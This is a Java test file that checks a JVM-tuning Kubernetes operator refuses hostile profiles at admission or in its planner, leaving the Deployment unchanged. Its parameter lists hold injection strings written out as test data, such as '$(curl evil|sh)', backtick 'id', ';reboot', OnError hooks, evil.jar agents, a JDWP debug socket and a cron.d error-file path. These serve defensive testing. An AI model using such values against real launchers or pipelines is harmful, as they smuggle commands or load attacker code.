package dev.jvmtuning.operator.reconciler;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.jvmtuning.operator.api.v1alpha1.TuningProfile;
import dev.jvmtuning.operator.model.ContainerFacts;
import dev.jvmtuning.operator.model.Reason;
import dev.jvmtuning.operator.planner.PlanResult;
import dev.jvmtuning.operator.planner.Planner;
import dev.jvmtuning.operator.testing.LocalControlPlane;
import dev.jvmtuning.operator.testing.RunningOperator;
import dev.jvmtuning.operator.testing.StartsProcesses;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Profiles a hostile or careless author might write, each refused before anything reaches a pod: at
 * admission by the real API server (the CRD's schema and CEL rules), or by the operator's planner as
 * Applied=False, reason Invalid. Those the planner refuses pass admission here, so the split is real,
 * and several go through the running operator with the Deployment's pod template compared byte for byte.
 */
@StartsProcesses
class HostileProfilesTest {
    private static final long GI = 1024L * 1024 * 1024;
    /** What the planner judges against: a container of 2 CPUs and 2Gi whose JDK is not known. */
    private static final ContainerFacts CONTAINER = ContainerFacts.ofResources(2.0, 2.0, 2 * GI, 2 * GI);
    private static final AtomicInteger TRIED = new AtomicInteger();
    private static final AtomicInteger AT_ADMISSION = new AtomicInteger();
    private static final AtomicInteger BY_PLANNER = new AtomicInteger();
    private static LocalControlPlane controlPlane;
    private static KubernetesClient client;
    private static String namespace;

    enum RefusedBy { ADMISSION, PLANNER }

    @BeforeAll
    static void controlPlane() {
        controlPlane = LocalControlPlane.shared();
        controlPlane.installCrd();
        client = controlPlane.client();
        namespace = controlPlane.newNamespace("hostile");
    }

    @AfterAll
    static void tally() {
        System.out.printf("hostile profiles: %d tried, %d refused at admission, %d refused by the planner%n",
                TRIED.get(), AT_ADMISSION.get(), BY_PLANNER.get());
    }

    private static Arguments admission(String spec, String message) {
        return Arguments.of(RefusedBy.ADMISSION, spec, message);
    }

    private static Arguments planner(String spec, String message) {
        return Arguments.of(RefusedBy.PLANNER, spec, message);
    }

    static Stream<Arguments> hostileProfiles() {
        String syntax = "is not exactly one JVM flag";
        String sixtyFiveFlags = String.join(", ", Collections.nCopies(65, "'-XX:+UseG1GC'"));
        return Stream.of(
                // flags that run commands or load code: never, whatever the installation allows
                admission("jvmOptions: ['-XX:OnError=reboot']", "jvmOptions entry '-XX:OnError=reboot' is refused"),
                admission("jvmOptions: ['-XX:OnOutOfMemoryError=/bin/kill']", "'-XX:OnOutOfMemoryError=/bin/kill' is refused"),
                admission("jvmOptions: ['-javaagent:/tmp/evil.jar']", "'-javaagent:/tmp/evil.jar' is refused"),
                admission("jvmOptions: ['-agentpath:/tmp/evil.so']", "'-agentpath:/tmp/evil.so' is refused"),
                admission("jvmOptions: ['-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005']", "is refused: flags that run commands"),
                admission("jvmOptions: ['-Xrunjdwp:transport=dt_socket']", "'-Xrunjdwp:transport=dt_socket' is refused"),
                // a second flag or a command smuggled into one entry
                admission("jvmOptions: ['@/tmp/args']", "'@/tmp/args' " + syntax),
                admission("jvmOptions: ['-Xmx1g -XX:OnError=reboot']", syntax),
                admission("jvmOptions: [\"-Xmx1g\\n-XX:+UseG1GC\"]", "exactly one JVM flag"),
                admission("jvmOptions: [\"-Xmx1g\\t\"]", "exactly one JVM flag"),
                admission("jvmOptions: ['-Dx=$(curl evil|sh)']", syntax),
                admission("jvmOptions: ['-Dx=`id`']", syntax),
                admission("jvmOptions: ['-XX:+UseG1GC;reboot']", syntax),
                admission("jvmOptions: ['-Dx=a&&b']", syntax),
                admission("jvmOptions: [\"-Dx='quoted'\"]", syntax),
                admission("jvmOptions: ['-Dx=a\\b']", syntax),
                admission("jvmOptions: ['-Dx=<in']", syntax),
                admission("jvmOptions: ['']", syntax),
                admission("jvmOptions: ['-cp', '/tmp/evil.jar']", "'/tmp/evil.jar' " + syntax),
                admission("jvmOptions: ['Xmx1g']", "'Xmx1g' " + syntax),
                admission("jvmOptions: [" + sixtyFiveFlags + "]", "must have at most 64 items"),
                admission("jvmOptions: ['-Dx=" + "a".repeat(520) + "']", "may not be more than 512"),
                // every other field's bad values
                admission("jvmOptionsVariable: LD_PRELOAD", "spec.jvmOptionsVariable: Unsupported value: \"LD_PRELOAD\""),
                admission("container: 'app;rm'", "spec.container: Invalid value"),
                admission("runtime: WebLogic", "spec.runtime: Unsupported value"),
                admission("mode: Autopilot", "spec.mode: Unsupported value"),
                admission("heap: {size: 16Mi}", "heap.size must be at least 32Mi"),
                admission("heap: {size: '1Gi; reboot'}", "spec.heap.size: Invalid value"),
                admission("heap: {size: '99999999999999999999Ti'}", "heap.size must be at most 16Ti"),
                admission("workload: {allocationPerRequest: '1'}", "workload.allocationPerRequest must be at least 1Ki"),
                admission("workload: {maxQueueWait: 99999999999999999999h}", "spec.workload.maxQueueWait"),
                admission("heap: {percentOfLimit: 95}", "spec.heap.percentOfLimit in body should be less than or equal to 90"),
                admission("gc: {collector: CMS}", "spec.gc.collector: Unsupported value"),
                admission("gc: {maxPauseMillis: 0}", "spec.gc.maxPauseMillis in body should be greater than or equal to 1"),
                admission("threads: {max: 0}", "spec.threads.max in body should be greater than or equal to 1"),
                admission("queue: {acceptCount: 0}", "spec.queue.acceptCount in body should be greater than or equal to 1"),
                admission("queue: {maxConnections: 2000000}", "spec.queue.maxConnections in body should be less than or equal to"),
                admission("connectionPool: {maxSize: 20000}", "spec.connectionPool.maxSize in body should be less than or equal to"),
                admission("workload: {meanLatency: 0s}", "workload.meanLatency must be positive"),
                admission("metrics: {path: 'http://evil.example'}", "spec.metrics.path: Invalid value"),
                admission("metrics: {port: 0}", "spec.metrics.port in body should be greater than or equal to 1"),
                admission("metrics: {interval: 1s}", "metrics.interval must be at least 5s"),
                admission("metrics: {source: Url}", "spec.metrics.source: Unsupported value"),
                admission("pressure: {cpuThrottlePercent: 0}", "spec.pressure.cpuThrottlePercent in body should be greater than or equal to 1"),
                // well-formed single flags the operator's policy refuses: unknown, out of range, or refused by default
                planner("jvmOptions: ['-XX:+UseFooGC']", "jvmOptions[0] '-XX:+UseFooGC' is not a flag of every one of JDK 17, JDK 21 and JDK 25"),
                planner("jvmOptions: ['-Xss1k']", "'-Xss1k' is out of range: a thread stack of 1k is below the 136k"),
                planner("jvmOptions: ['-XX:ThreadStackSize=1']", "is below the 136k"),
                planner("jvmOptions: ['-Xmx0']", "'-Xmx0' is out of range: a maximum heap below 32m does not start"),
                planner("jvmOptions: ['-Xmn0']", "'-Xmn0' is out of range"),
                planner("jvmOptions: ['-XX:MaxRAMPercentage=150']", "150 is outside [0.000 ... 100.000]"),
                planner("jvmOptions: ['-XX:MaxGCPauseMillis=0']", "0 is outside [1 ..."),
                planner("jvmOptions: ['-XX:ParallelGCThreads=99999999999']", "is larger than a uint holds"),
                // within the JDK's range, beyond any machine: the planner would overflow budgeting with them
                planner("jvmOptions: ['-XX:ConcGCThreads=4294967295']", "'-XX:ConcGCThreads=4294967295' is out of range: above 8192"),
                planner("jvmOptions: ['-XX:ActiveProcessorCount=2147483647']", "more CPUs than Linux supports"),
                planner("jvmOptions: ['-XX:MaxHeapSize=18446744073709551615']", "is larger than any memory: at most 16t"),
                planner("jvmOptions: ['-XX:ReservedCodeCacheSize=18446744073709551615']", "is larger than any memory"),
                planner("jvmOptions: ['-XX:ReservedCodeCacheSize=9999999t']", "is larger than any memory"),
                planner("jvmOptions: ['-XX:MaxDirectMemorySize=9223372036854775807']", "is larger than any memory"),
                planner("jvmOptions: ['-XX:ThreadStackSize=9223372036854775807']", "is larger than any memory"),
                planner("jvmOptions: ['-Xmx9223372036854775807']", "is larger than any memory"),
                planner("jvmOptions: ['-XX:UseG1GC=true']", "sets a boolean flag: write -XX:+UseG1GC or -XX:-UseG1GC"),
                planner("jvmOptions: ['-Xlog:gc+nosuchtag']", "names log tag 'nosuchtag'"),
                planner("jvmOptions: ['-XX:HeapDumpPath=/tmp']", "'-XX:HeapDumpPath=/tmp' is refused: it takes a string"),
                planner("jvmOptions: ['-XX:ErrorFile=/etc/cron.d/x']", "is refused: it takes a string"),
                planner("jvmOptions: ['-Xlog:gc:file=/tmp/gc.log']", "is refused: it writes a log file"),
                planner("jvmOptions: ['-Xloggc:/tmp/gc.log']", "is refused: it writes a log file"),
                planner("jvmOptions: ['-Djava.security.manager=allow']", "is refused: it sets a system property"),
                planner("jvmOptions: ['-Djava.system.class.loader=evil.Loader']", "is refused: it sets a system property"),
                planner("jvmOptions: ['-XX:VMOptionsFile=/tmp/opts']", "is refused: it reads JVM options from a file"),
                planner("jvmOptions: ['-XX:Flags=/tmp/.hotspotrc']", "is refused: it reads JVM options from a file"),
                planner("jvmOptions: ['-Xbootclasspath/a:/tmp']", "is refused: it loads classes from the boot class path"),
                planner("jvmOptions: ['-cp']", "'-cp' is refused: it sets the class path"),
                planner("jvmOptions: ['--add-opens=java.base/java.lang=ALL-UNNAMED']", "is a java launcher option"),
                planner("jvmOptions: ['--patch-module=java.base=/tmp/evil.jar']", "is a java launcher option"),
                planner("jvmOptions: ['-XX:+UnlockDiagnosticVMOptions', '-XX:+LogCompilation']", "unlocks diagnostic flags"),
                planner("jvmOptions: ['-XX:+LogCompilation']", "is a diagnostic flag"),
                planner("jvmOptions: ['-Xverify:none']", "changes bytecode verification"),
                planner("jvmOptions: ['-verbose:gc']", "is not a tuning flag"),
                // well-formed, known flags that contradict each other or the profile
                planner("jvmOptions: ['-XX:+UseSerialGC', '-XX:+UseG1GC']", "select more than one garbage collector"),
                planner("heap: {size: 1Gi}\njvmOptions: ['-Xmx512m']", "the heap section sizes the heap"),
                planner("gc: {collector: ZGC}\njvmOptions: ['-XX:+UseG1GC']", "but gc.collector is ZGC"),
                planner("jvmOptions: ['-XX:ParallelGCThreads=2', '-XX:ConcGCThreads=4']", "above ParallelGCThreads=2"));
    }

    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource
    void hostileProfiles(RefusedBy refusedBy, String spec, String message) {
        String name = "hostile-" + TRIED.incrementAndGet();
        if (refusedBy == RefusedBy.ADMISSION) {
            assertThatThrownBy(() -> create(name, spec)).isInstanceOf(KubernetesClientException.class).hasMessageContaining(message);
            assertThat(client.resources(TuningProfile.class).inNamespace(namespace).withName(name).get()).isNull();
            AT_ADMISSION.incrementAndGet();
        } else {
            TuningProfile stored = create(name, spec);
            PlanResult result = Planner.plan(stored.getSpec(), CONTAINER);
            assertThat(result).isInstanceOfSatisfying(PlanResult.Rejected.class, rejected -> {
                assertThat(rejected.reason()).isEqualTo(Reason.INVALID);
                assertThat(String.join("; ", rejected.messages())).contains(message);
            });
            BY_PLANNER.incrementAndGet();
        }
    }

    /** Sends the YAML as written, so the API server, not the Java model, judges it; returns what it stored. */
    private static TuningProfile create(String name, String spec) {
        client.resource("""
                apiVersion: jvmtuning.dev/v1alpha1
                kind: TuningProfile
                metadata: {name: %s}
                spec:
                  targetRef: {name: web}
                """.formatted(name) + spec.indent(2)).inNamespace(namespace).create();
        return client.resources(TuningProfile.class).inNamespace(namespace).withName(name).get();
    }

    static Stream<Arguments> throughTheOperator() {
        return Stream.of(
                Arguments.of("['-XX:+UseFooGC']", "is not a flag of"),
                Arguments.of("['-Xss1k']", "is below the 136k"),
                Arguments.of("['-XX:ParallelGCThreads=99999999999']", "is larger than a uint holds"),
                Arguments.of("['-XX:HeapDumpPath=/tmp']", "is refused: it takes a string"),
                Arguments.of("['-Djava.security.manager=allow']", "is refused: it sets a system property"),
                Arguments.of("['-XX:+UseG1GC', '-XX:+LogCompilation']", "jvmOptions[1] '-XX:+LogCompilation' is a diagnostic flag"));
    }

    /** Applied=False, reason Invalid, with the entry and the reason in the message, and not a byte of the Deployment written. */
    @ParameterizedTest(name = "{0}")
    @MethodSource
    void throughTheOperator(String jvmOptions, String message) {
        RunningOperator operator = RunningOperator.shared();
        String ns = controlPlane.newNamespace("hostile-e2e");
        client.resource(TuningProfileReconcilerTest.deployment("web", "2", "2Gi")).inNamespace(ns).create();
        Deployment before = client.apps().deployments().inNamespace(ns).withName("web").get();
        String templateBefore = Serialization.asJson(before.getSpec().getTemplate());

        client.resource("""
                apiVersion: jvmtuning.dev/v1alpha1
                kind: TuningProfile
                metadata: {name: web}
                spec:
                  targetRef: {name: web}
                  threads: {max: 50}
                  jvmOptions: %s
                """.formatted(jvmOptions)).inNamespace(ns).create();

        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(200)).untilAsserted(() -> assertThat(applied(ns))
                .satisfies(c -> {
                    assertThat(c.getStatus()).isEqualTo("False");
                    assertThat(c.getReason()).isEqualTo("Invalid");
                    assertThat(c.getMessage()).contains(message);
                }));
        operator.awaitReconciles(ns, "web", 1);
        Deployment after = client.apps().deployments().inNamespace(ns).withName("web").get();
        assertThat(Serialization.asJson(after.getSpec().getTemplate())).isEqualTo(templateBefore);
        // The generation counts spec writes; the resource version also moves when a controller manager writes status.
        assertThat(after.getMetadata().getGeneration()).isEqualTo(before.getMetadata().getGeneration());
        assertThat(operator.writes(ns, "deployments")).isZero();
        assertThat(operator.writes(ns, "configmaps")).isZero();
    }

    private static Condition applied(String ns) {
        TuningProfile profile = client.resources(TuningProfile.class).inNamespace(ns).withName("web").get();
        return profile.getStatus() == null ? new Condition() : profile.getStatus().getConditions().stream()
                .filter(c -> c.getType().equals("Applied")).findFirst().orElseGet(Condition::new);
    }
}
